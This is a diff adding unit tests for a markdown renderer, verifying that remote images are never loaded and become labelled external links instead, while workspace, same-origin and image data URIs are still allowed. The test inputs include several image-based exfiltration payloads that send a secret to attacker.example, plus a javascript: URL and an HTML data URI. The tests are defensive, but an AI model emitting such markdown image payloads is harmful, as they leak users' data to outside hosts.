@@ -62,3 +62,46 @@ describe('renderMarkdown', () => {
     })
   })
 })
+
+describe('images never leave the server', () => {
+  it.each([
+    '![x](https://attacker.example/c?d=SECRET)',
+    '![x](http://attacker.example/c?d=SECRET)',
+    '![x](//attacker.example/c?d=SECRET)',
+    '![x](/\\attacker.example/c?d=SECRET)',
+    '![x](https:attacker.example/c?d=SECRET)',
+    '![x][ref]\n\n[ref]: https://attacker.example/c?d=SECRET',
+    '<img src="https://attacker.example/c?d=SECRET">',
+  ])('%s renders no <img> with a remote source', (input) => {
+    const html = renderMarkdown(input)
+    expect(html).not.toMatch(/<img\b/i)
+    expect(html).not.toMatch(/<[^>]*\ssrc="[^"]*attacker/i)
+  })
+
+  it('a remote image becomes a link that says it is an external image, and loads nothing', () => {
+    const html = renderMarkdown('![chart](https://attacker.example/c?d=SECRET "Q3")')
+    expect(html).toBe(
+      '<p><a href="https://attacker.example/c?d=SECRET" title="Q3" class="external-image" rel="noopener noreferrer" target="_blank">External image, not loaded: chart (attacker.example)</a></p>\n',
+    )
+  })
+
+  it('a remote image with a javascript: URL keeps no href', () => {
+    const html = renderMarkdown('![x](javascript:alert(1))')
+    expect(html).not.toMatch(/href=/)
+    expect(html).toContain('External image, not loaded: x')
+  })
+
+  it('loads workspace files through the raw-content URL, same-origin paths and data: images', () => {
+    expect(renderMarkdown('![a](kb://users/demo/pic.png)')).toContain('<img src="/api/v1/workspace/raw?uri=kb%3A%2F%2Fusers%2Fdemo%2Fpic.png" alt="a" />')
+    expect(renderMarkdown('![a](/static/logo.png)')).toContain('<img src="/static/logo.png" alt="a" />')
+    expect(renderMarkdown('![a](data:image/png;base64,iVBORw0KGgo=)')).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="a" />')
+    expect(renderMarkdown('![a](data:text/html;base64,PHNjcmlwdD4=)')).not.toContain('<img')
+  })
+
+  it('resolves a relative image against the previewed file, never above the scheme', () => {
+    expect(renderMarkdown('![d](img/diagram.png)', { baseUri: 'kb://users/demo/docs/a.md' })).toContain(
+      'src="/api/v1/workspace/raw?uri=kb%3A%2F%2Fusers%2Fdemo%2Fdocs%2Fimg%2Fdiagram.png"',
+    )
+    expect(renderMarkdown('![d](img/diagram.png)')).toContain('External image, not loaded: d')
+  })
+})
